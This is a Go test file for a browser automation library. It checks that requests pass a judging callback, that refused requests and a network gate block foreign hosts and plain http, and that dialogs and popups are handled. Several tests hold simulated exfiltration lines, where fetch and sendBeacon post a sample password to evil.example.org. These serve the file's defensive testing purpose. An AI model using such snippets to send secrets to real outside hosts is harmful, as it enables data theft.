package browser_test

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"

	"irccpin/automation/browser"
)

// asked is a Request callback that notes and judges.
type asked struct {
	mu     sync.Mutex
	all    []browser.Request
	refuse func(browser.Request) error
}

func (a *asked) Request(r browser.Request) error {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.all = append(a.all, r)
	if a.refuse != nil {
		return a.refuse(r)
	}
	return nil
}

func (a *asked) take() []browser.Request {
	a.mu.Lock()
	defer a.mu.Unlock()
	all := a.all
	a.all = nil
	return all
}

func TestRequestsAreAskedOnceEach(t *testing.T) {
	mux := http.NewServeMux()
	html := func(pattern, text string) {
		mux.HandleFunc(pattern, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, text)
		})
	}
	hop := func(pattern, to string) {
		mux.HandleFunc(pattern, func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, to, http.StatusTemporaryRedirect)
		})
	}
	html("www.example.com/{$}", `<link rel=stylesheet href=/x.css><script src=/x.js></script><img src=/x.png>
		<iframe src=https://far.example.org/first></iframe><form id=f method=post action=/hop1></form>`)
	hop("www.example.com/hop1", "https://sso.example.org/hop2")
	hop("sso.example.org/hop2", "https://www.example.com/end")
	html("www.example.com/end", `end`)
	html("far.example.org/first", `<script>location.href = "/second"</script>`)
	html("far.example.org/second", `<script>location.href = "https://www.example.com/third"</script>`)
	html("www.example.com/third", `<script>parent.postMessage("third", "*")</script>`)
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "") })
	s := newSite(t, mux)
	b, _ := s.open(t)
	judge := new(asked)
	options := tabOptions()
	options.Request = judge.Request
	tab := newTab(t, b, options)
	ctx := background(t)

	nav := load(t, tab, "https://www.example.com/")
	await(t, tab, func(ev browser.Announced) bool {
		return strings.Contains(ev.Payload, "third") && strings.Contains(ev.Payload, "interactive")
	})
	doc := browser.KindDocument
	want := []browser.Request{
		{URL: "https://www.example.com/", Method: "GET", Kind: doc, TopFrame: true},
		{URL: "https://far.example.org/first", Method: "GET", Kind: doc},
		{URL: "https://far.example.org/second", Method: "GET", Kind: doc},
		{URL: "https://www.example.com/third", Method: "GET", Kind: doc},
	}
	if diff := cmp.Diff(want, judge.take()); diff != "" {
		t.Errorf("asked (-want +got):\n%s", diff)
	}

	// Of scripts' requests only those that post are asked.
	err := tab.Call(ctx, nav.Doc, `async () => {
		await fetch("/read?fetch"); await fetch("/write?fetch", {method: "POST", body: "x"});
		for (const [method, url] of [["GET", "/read?xhr"], ["PUT", "/write?xhr"]]) await new Promise(done => {
			const x = new XMLHttpRequest(); x.open(method, url); x.onloadend = done; x.send("x");
		});
	}`, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	want = []browser.Request{
		{URL: "https://www.example.com/write?fetch", Method: "POST", Kind: browser.KindXHR, TopFrame: true},
		{URL: "https://www.example.com/write?xhr", Method: "PUT", Kind: browser.KindXHR, TopFrame: true},
	}
	if diff := cmp.Diff(want, judge.take()); diff != "" {
		t.Errorf("asked (-want +got):\n%s", diff)
	}

	// A posted form keeps its body over a 307, so each hop is asked.
	if err := tab.Call(ctx, nav.Doc, `() => { document.getElementById("f").submit() }`, nil, nil); err != nil {
		t.Fatal(err)
	}
	await(t, tab, func(ev browser.Navigated) bool { return ev.URL == "https://www.example.com/end" })
	want = []browser.Request{
		{URL: "https://www.example.com/hop1", Method: "POST", Kind: doc, TopFrame: true},
		{URL: "https://sso.example.org/hop2", Method: "POST", Kind: doc, TopFrame: true, Redirected: true},
		{URL: "https://www.example.com/end", Method: "POST", Kind: doc, TopFrame: true, Redirected: true},
	}
	if diff := cmp.Diff(want, judge.take()); diff != "" {
		t.Errorf("asked (-want +got):\n%s", diff)
	}
}

func TestRefusedRequestsDoNotLeave(t *testing.T) {
	var mu sync.Mutex
	var reached []string
	s := newSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		reached = append(reached, r.Host+r.URL.Path+string(body))
		mu.Unlock()
		switch r.URL.Path {
		case "/leads-away":
			http.Redirect(w, r, "https://evil.example.org/trap", http.StatusTemporaryRedirect)
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, `<form id=f method=post><input name=password value=s3cret></form>`)
		}
	}))
	b, gate := s.open(t)
	no := errors.New("not on the list")
	judge := &asked{refuse: func(r browser.Request) error {
		if strings.Contains(r.URL, "evil") || strings.HasPrefix(r.URL, "http:") {
			return no
		}
		return nil
	}}
	options := tabOptions()
	options.Request = judge.Request
	tab := newTab(t, b, options)
	ctx := background(t)

	refused := func(url string, redirected bool, method string) {
		t.Helper()
		got, _ := await[browser.Refused](t, tab, nil)
		want := browser.Request{URL: url, Method: method, Kind: browser.KindDocument, TopFrame: true, Redirected: redirected}
		if got.Request != want || !errors.Is(got.Err, no) {
			t.Errorf("Refused = %+v, want %+v", got, want)
		}
		failed, _ := await[browser.NavigationFailed](t, tab, nil)
		if failed.Reason != "net::ERR_BLOCKED_BY_CLIENT" || failed.Kept {
			t.Errorf("after a refusal came %+v", failed)
		}
	}
	submit := `(url) => { const f = document.getElementById("f"); f.action = url; f.submit() }`

	nav := load(t, tab, "https://www.example.com/")
	if err := tab.Call(ctx, nav.Doc, submit, "/leads-away", nil); err != nil {
		t.Fatal(err)
	}
	refused("https://evil.example.org/trap", true, "POST")

	nav = load(t, tab, "https://www.example.com/")
	if err := tab.Call(ctx, nav.Doc, submit, "https://evil.example.org/form", nil); err != nil {
		t.Fatal(err)
	}
	refused("https://evil.example.org/form", false, "POST")

	nav = load(t, tab, "https://www.example.com/")
	if err := tab.Call(ctx, nav.Doc, submit, "http://www.example.com/plain", nil); err != nil {
		t.Fatal(err)
	}
	refused("http://www.example.com/plain", false, "POST")

	var failure string
	nav = load(t, tab, "https://www.example.com/")
	err := tab.Call(ctx, nav.Doc, `() => fetch("https://evil.example.org/fetch", {method: "POST", mode: "no-cors", body: "s3cret"}).then(() => "sent", e => e.message)`, nil, &failure)
	if err != nil || failure == "sent" {
		t.Errorf("a foreign fetch was %q, %v", failure, err)
	}
	await(t, tab, func(ev browser.Refused) bool { return ev.Request.Kind == browser.KindXHR })
	if err := tab.Call(ctx, nav.Doc, `() => navigator.sendBeacon("https://evil.example.org/beacon", "s3cret")`, nil, nil); err != nil {
		t.Fatal(err)
	}
	await(t, tab, func(ev browser.Refused) bool { return ev.Request.Kind == browser.KindBeacon })

	mu.Lock()
	defer mu.Unlock()
	for _, request := range reached {
		if strings.Contains(request, "evil") || strings.Contains(request, "/plain") {
			t.Errorf("%s left the browser", request)
		}
	}
	if refused := gate.Refused(); len(refused) != 0 {
		t.Errorf("the gate, too, refused %v", refused)
	}
}

// TestGateHoldsWithoutGuard: what no callback stops, the gate does: foreign
// hosts, plain http and loopback addresses.
func TestGateHoldsWithoutGuard(t *testing.T) {
	s := newSite(t, pages{"www.example.com/": `<iframe src=https://evil.example.net/frame></iframe><img src=http://www.example.com/x.png>`})
	b, gate := s.open(t)
	tab := newTab(t, b, tabOptions())
	load(t, tab, "https://www.example.com/")
	for _, url := range []string{"https://evil.example.net/", "http://www.example.com/", "http://" + s.addr + "/", "https://" + s.addr + "/", "https://www.example.com:8443/", "https://www.example.com./"} {
		var failed *browser.NavigationError
		if err := tab.Navigate(background(t), url); !errors.As(err, &failed) {
			t.Errorf("Navigate to %s: %v", url, err)
		}
	}
	refused := gate.Refused()
	for _, target := range []string{"evil.example.net:443", "http://www.example.com/", "http://" + s.addr + "/", s.addr, "www.example.com:8443", "www.example.com.:443"} {
		if !slices.Contains(refused, target) {
			t.Errorf("the gate did not see %s; it refused %q", target, refused)
		}
	}
}

func TestDialogs(t *testing.T) {
	s := newSite(t, pages{
		"www.example.com/":     `<body onclick="1">page`,
		"www.example.com/next": `next`,
	})
	b, _ := s.open(t)
	var mu sync.Mutex
	verdicts := map[browser.DialogKind]bool{}
	for _, own := range []bool{false, true} {
		options := tabOptions()
		if own {
			options.Dialog = func(d browser.Dialog) bool {
				mu.Lock()
				defer mu.Unlock()
				return verdicts[d.Kind]
			}
		}
		tab := newTab(t, b, options)
		ctx := background(t)
		for kind, standard := range map[browser.DialogKind]bool{
			browser.DialogAlert: true, browser.DialogConfirm: false, browser.DialogPrompt: false,
		} {
			nav := load(t, tab, "https://www.example.com/")
			want := standard
			if own {
				want = !standard
				mu.Lock()
				verdicts[kind] = want
				mu.Unlock()
			}
			var answer any
			if err := tab.Call(ctx, nav.Doc, `(kind) => window[kind]("Sure?")`, kind, &answer); err != nil {
				t.Fatal(err)
			}
			got, _ := await[browser.DialogAnswered](t, tab, nil)
			if wanted := (browser.DialogAnswered{Dialog: browser.Dialog{Kind: kind, Message: "Sure?"}, Accepted: want}); got != wanted {
				t.Errorf("DialogAnswered = %+v, want %+v", got, wanted)
			}
			if kind == browser.DialogConfirm && answer != want {
				t.Errorf("confirm gave the page %v, want %v", answer, want)
			}
		}
		if !own {
			// A page that does not want to be left is left.
			nav := load(t, tab, "https://www.example.com/")
			if err := tab.Click(ctx, 20, 20); err != nil { // only a touched page may ask
				t.Fatal(err)
			}
			if err := tab.Call(ctx, nav.Doc, `() => { window.addEventListener("beforeunload", e => e.preventDefault()) }`, nil, nil); err != nil {
				t.Fatal(err)
			}
			if err := tab.Navigate(ctx, "https://www.example.com/next"); err != nil {
				t.Fatal(err)
			}
			got, _ := await[browser.DialogAnswered](t, tab, nil)
			if got.Dialog.Kind != browser.DialogBeforeUnload || !got.Accepted {
				t.Errorf("DialogAnswered = %+v", got)
			}
		}
	}
}

func TestPopups(t *testing.T) {
	for _, shell := range []bool{true, false} {
		t.Run(map[bool]string{true: "headless shell", false: "full browser"}[shell], func(t *testing.T) {
			var mu sync.Mutex
			var posted []string
			s := newSite(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.Method == http.MethodPost {
					mu.Lock()
					posted = append(posted, r.Host)
					mu.Unlock()
				}
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprintf(w, `<body style="margin:0"><title>%s</title>
					<form action="https://evil.example.org/" target=_blank method=post><button style="position:absolute;top:0;left:0;width:99px;height:40px">Post</button></form>
					<a target=_blank rel=noopener href=/second style="position:absolute;top:50px;left:0;width:99px;height:40px">Link</a>
					<button onclick="window.open('/third','w','width=300,height=300')" style="position:absolute;top:100px;left:0;width:99px;height:40px">Window</button>`, r.URL.Path)
			}))
			gate := openGate(t, browser.GateOptions{Simulator: s.addr})
			b := startWith(t, browser.Options{Path: findPath(t, shell), Gate: gate, TrustSPKI: []string{s.spki}})
			judge := &asked{refuse: func(r browser.Request) error {
				if strings.Contains(r.URL, "evil") {
					return errors.New("foreign")
				}
				return nil
			}}
			options := tabOptions()
			options.Request = judge.Request
			tab := newTab(t, b, options)
			ctx := background(t)
			load(t, tab, "https://www.example.com/first")

			// A form posted into a new window: its very first request is guarded.
			if err := tab.Click(ctx, 10, 10); err != nil {
				t.Fatal(err)
			}
			popup, _ := await[browser.Popup](t, tab, nil)
			refused, _ := await[browser.Refused](t, popup.Tab, nil)
			if refused.Request.URL != "https://evil.example.org/" || refused.Request.Method != "POST" || !refused.Request.TopFrame {
				t.Errorf("Refused = %+v", refused)
			}
			if err := popup.Tab.Close(ctx); err != nil {
				t.Fatal(err)
			}
			if closed, _ := await[browser.Closed](t, popup.Tab, nil); closed.Reason != browser.ClosedByUs {
				t.Errorf("Closed = %+v", closed)
			}

			for _, way := range []struct {
				y   float64
				url string
			}{{60, "https://www.example.com/second"}, {110, "https://www.example.com/third"}} {
				if err := tab.Click(ctx, 10, way.y); err != nil {
					t.Fatal(err)
				}
				popup, _ := await[browser.Popup](t, tab, nil)
				if popup.URL != way.url {
					t.Errorf("Popup.URL = %q, want %q", popup.URL, way.url)
				}
				nav, _ := await(t, popup.Tab, func(ev browser.Navigated) bool { return ev.URL == way.url })
				said, _ := await(t, popup.Tab, func(ev browser.Announced) bool { return strings.Contains(ev.Payload, way.url) })
				if said.Doc != nav.Doc || said.Frame != "" {
					t.Errorf("Announced = %+v, want document %s", said, nav.Doc)
				}
				var title string
				if err := popup.Tab.Call(ctx, nav.Doc, `() => location.pathname`, nil, &title); err != nil || !strings.HasSuffix(way.url, title) {
					t.Errorf("Call in the popup: %q, %v", title, err)
				}
				if way.y == 110 {
					// A window that closes itself.
					_ = popup.Tab.Call(ctx, nav.Doc, `() => { setTimeout(() => window.close()) }`, nil, nil)
					if closed, _ := await[browser.Closed](t, popup.Tab, nil); closed.Reason != browser.ClosedByOther {
						t.Errorf("Closed = %+v", closed)
					}
				}
			}
			// The first tab takes its popups along.
			if err := tab.Close(ctx); err != nil {
				t.Fatal(err)
			}
			mu.Lock()
			defer mu.Unlock()
			if len(posted) != 0 {
				t.Errorf("posted to %v", posted)
			}
		})
	}
}
